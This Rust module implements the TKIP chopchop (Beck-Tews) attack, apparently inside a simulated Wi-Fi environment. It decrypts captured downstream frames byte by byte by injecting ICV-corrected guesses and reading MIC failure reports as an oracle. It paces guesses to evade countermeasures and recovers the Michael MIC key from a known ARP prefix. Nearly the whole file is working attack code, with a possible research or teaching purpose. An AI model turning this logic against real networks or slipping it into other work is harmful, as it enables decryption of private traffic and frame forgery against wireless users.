//! Byte-by-byte decryption through MIC failure reports.
//!
//! Dropping the last ciphertext byte and correcting the ICV for one of 256
//! guesses yields a frame whose ICV is valid only if the guess was right.
//! The victim silently drops bad ICVs but reports the MIC failure that the
//! right guess produces. Guesses go out on a QoS channel whose counter is
//! still below the frame's TSC, and one byte is confirmed per minute to stay
//! clear of countermeasures.

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

use super::{AttackError, Session};
use crate::addr::Direction;
use crate::frames::{icv_ok, last_icv_byte, truncation_mask, Mpdu, ICV_LEN, MIC_LEN, QOS_CHANNELS};
use crate::keystream::{KeystreamEntry, Provenance};
use crate::michael::{recover_key, Mic, MicHeader, MicKey};
use crate::simnet::{AirFrame, Attacker, Micros, Observation, COUNTERMEASURE_WINDOW, MS};

/// LLC/SNAP for ARP plus hardware type and protocol type: identical in
/// every Ethernet/IPv4 ARP packet.
pub const ARP_KNOWN_PREFIX: [u8; 12] = [0xaa, 0xaa, 0x03, 0x00, 0x00, 0x00, 0x08, 0x06, 0x00, 0x01, 0x08, 0x00];

/// Shortest ciphertext a truncated guess may have: 8 body bytes plus ICV.
const MIN_TRUNCATED: usize = MIC_LEN + ICV_LEN;

#[derive(Debug, Clone)]
pub struct ChopConfig {
    /// Bytes to recover from the end of the frame.
    pub bytes: usize,
    /// Known leading plaintext; with enough recovered bytes the whole frame
    /// is known and the MIC key falls out.
    pub known_prefix: Vec<u8>,
    /// How long to wait for a report after each guess.
    pub report_timeout: Micros,
    /// Pause after each report.
    pub pause: Micros,
    /// Force a QoS channel instead of picking one.
    pub channel: Option<u8>,
    /// Seeds the per-byte starting guess. The right table index is a function
    /// of the plaintext alone, so a fixed order would make the cost of
    /// predictable bytes fixed too.
    pub order_seed: u64,
}

impl Default for ChopConfig {
    fn default() -> Self {
        Self {
            bytes: 36,
            known_prefix: ARP_KNOWN_PREFIX.to_vec(),
            report_timeout: 2 * MS,
            pause: COUNTERMEASURE_WINDOW,
            channel: None,
            order_seed: 0,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ChopResult {
    pub tsc: u64,
    pub channel: u8,
    /// Recovered trailing plaintext, in frame order.
    pub plaintext_tail: Vec<u8>,
    /// Keystream under the recovered bytes, in frame order.
    pub keystream_tail: Vec<u8>,
    /// Guesses spent per byte, in recovery order (last byte first).
    pub guesses: Vec<u32>,
    /// Whole plaintext when the known prefix closes the gap and the ICV checks.
    pub plaintext: Option<Vec<u8>>,
    pub mic_key: Option<MicKey>,
    pub started: Micros,
    pub finished: Micros,
}

impl ChopResult {
    pub fn mean_guesses(&self) -> f64 {
        self.guesses.iter().map(|&g| f64::from(g)).sum::<f64>() / self.guesses.len().max(1) as f64
    }
}

impl Session {
    /// Channel whose receive counter is believed to be below `tsc`.
    fn chop_channel(&self, tsc: u64, avoid: u8) -> Option<u8> {
        (1..QOS_CHANNELS as u8)
            .chain([0])
            .find(|&c| c != avoid && self.pool.estimate(c) < tsc)
    }

    /// Decrypt the tail of a captured single-fragment downstream frame.
    pub fn chopchop(&mut self, a: &mut Attacker<'_>, target: &AirFrame, cfg: &ChopConfig) -> Result<ChopResult, AttackError> {
        let [m] = &target.mpdus[..] else {
            return Err(AttackError::BadTarget("chopchop needs a single-fragment frame"));
        };
        if target.direction != Direction::ApToClient {
            return Err(AttackError::BadTarget("chopchop targets downstream frames"));
        }
        let n = m.ciphertext.len();
        if cfg.bytes == 0 || n < cfg.bytes + MIN_TRUNCATED {
            return Err(AttackError::BadTarget("frame too short for the requested bytes"));
        }
        self.sync(a);
        let channel = match cfg.channel {
            Some(c) => c,
            None => self.chop_channel(m.tsc, m.qos_channel).ok_or(AttackError::ChannelBudgetExhausted)?,
        };
        let started = a.now();
        a.note("chopchop", format!("target tsc={} len={} channel={}", m.tsc, n, channel), None);

        let mut cur = m.ciphertext.clone();
        let mut plain_rev = Vec::with_capacity(cfg.bytes);
        let mut guesses = Vec::with_capacity(cfg.bytes);
        let mut salt = [0u8; 8];
        for (k, b) in m.ciphertext.iter().enumerate() {
            salt[k % 8] ^= b;
        }
        let mut order = ChaCha8Rng::seed_from_u64(cfg.order_seed ^ m.tsc ^ u64::from_le_bytes(salt));
        for k in 0..cfg.bytes {
            if k > 0 {
                self.wait(a, cfg.pause);
            }
            let last = cur.len() - 1;
            let mut hit = None;
            let start: u8 = order.gen();
            for j in 0..=255u8 {
                let i = start.wrapping_add(j);
                let mut ct = cur[..last].to_vec();
                let tail = ct.len() - ICV_LEN;
                for (c, x) in ct[tail..].iter_mut().zip(truncation_mask(i)) {
                    *c ^= x;
                }
                let guess = AirFrame {
                    mpdus: vec![Mpdu::new(m.tsc, channel, 0, false, ct.clone())?],
                    ..target.clone()
                };
                self.inject(a, guess);
                let seen = self.await_obs(a, cfg.report_timeout, |o| {
                    matches!(o, Observation::MicFailureReport { .. } | Observation::Countermeasures { .. })
                });
                if let Some(&at) = self.countermeasures.last().filter(|&&t| t >= started) {
                    return Err(AttackError::CountermeasureTriggered { at });
                }
                if seen.is_some() {
                    hit = Some((i, u32::from(j) + 1, ct));
                    break;
                }
            }
            let Some((i, tries, ct)) = hit else {
                a.note("chopchop", format!("byte {} not found", n - 1 - k), None);
                return Err(AttackError::NoGuessAccepted { byte: n - 1 - k });
            };
            // The guess reveals the last byte of the current, already
            // truncated frame; only its keystream carries over.
            let ks = cur[last] ^ last_icv_byte(i);
            let p = m.ciphertext[last] ^ ks;
            plain_rev.push(p);
            guesses.push(tries);
            a.note(
                "chopchop",
                format!("byte {} guesses={tries}", n - 1 - k),
                Some(hex::encode([p, ks])),
            );
            cur = ct;
        }

        let plaintext_tail: Vec<u8> = plain_rev.iter().rev().copied().collect();
        let keystream_tail: Vec<u8> = m.ciphertext[n - cfg.bytes..]
            .iter()
            .zip(&plaintext_tail)
            .map(|(c, p)| c ^ p)
            .collect();

        let mut result = ChopResult {
            tsc: m.tsc,
            channel,
            plaintext_tail,
            keystream_tail,
            guesses,
            plaintext: None,
            mic_key: None,
            started,
            finished: a.now(),
        };

        // Close the gap with the known prefix and check the ICV.
        let gap = n - cfg.bytes;
        if cfg.known_prefix.len() >= gap {
            let mut full = cfg.known_prefix[..gap].to_vec();
            full.extend_from_slice(&result.plaintext_tail);
            if icv_ok(&full) {
                let body = &full[..n - MIC_LEN - ICV_LEN];
                let mic: Mic = full[body.len()..body.len() + MIC_LEN].try_into().expect("8 bytes");
                let header = MicHeader::new(target.da, target.sa, m.qos_channel)?;
                let key = recover_key(&header, body, &mic, Direction::ApToClient)?;
                a.note("chopchop", "mic key recovered", Some(hex::encode(key.to_bytes())));
                let mut e = KeystreamEntry::from_known(m, &full, Provenance::ArpChop);
                e.confirmed = true;
                self.pool.insert(vec![e]);
                self.mic_key = Some(key);
                self.learn_arp(body);
                result.mic_key = Some(key);
                result.plaintext = Some(full);
            }
        }
        Ok(result)
    }

    /// Wait for the next downstream ARP-sized frame.
    pub fn await_arp(&mut self, a: &mut Attacker<'_>, timeout: Micros) -> Option<AirFrame> {
        match self.await_obs(a, timeout, |o| {
            matches!(o, Observation::Air { frame, .. }
                if frame.direction == Direction::ApToClient && frame.mpdus.len() == 1 && frame.len() == super::ARP_FRAME_LEN)
        }) {
            Some(Observation::Air { frame, .. }) => Some(frame),
            _ => None,
        }
    }
}
